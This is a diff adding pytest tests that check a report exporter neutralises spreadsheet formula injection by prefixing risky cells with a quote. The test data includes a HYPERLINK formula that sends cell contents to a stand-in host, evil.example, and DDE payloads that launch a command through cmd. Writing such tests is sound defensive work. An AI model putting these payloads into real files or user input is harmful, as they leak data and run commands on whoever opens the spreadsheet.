@@ -89,3 +89,33 @@ def test_a_report_that_cannot_be_written_is_reported_not_raised(tmp_path):
     flow = FlowConfig(name="courrier", root=tmp_path)
     reports = Reports([flow], lambda name: [line()])
     assert not reports.write("courrier")
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
+        "+33 1 23 45 67 89",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(hostile):
+    """File names come from anyone who can write to the share: a cell starting with what a
+    spreadsheet reads as a formula gets a leading quote, so it is shown as text."""
+    rows = read_as_a_spreadsheet(
+        render([line(file=f"{hostile}.pdf", message=hostile, reference=hostile)])
+    )
+    row = rows[1]
+    for cell in (row[1], row[6], row[7]):
+        assert cell.startswith("'"), cell
+    assert row[1] == f"'{hostile}.pdf"
+    assert row[6] == f"'{hostile}"
+
+
+def test_harmless_cells_are_left_as_they_are(in_paris):
+    row = read_as_a_spreadsheet(render([line(file="a=b-c+d@e.pdf", message="")]))[1]
+    assert row[1] == "a=b-c+d@e.pdf"
+    assert row[0] == "03/03/2025 10:00"
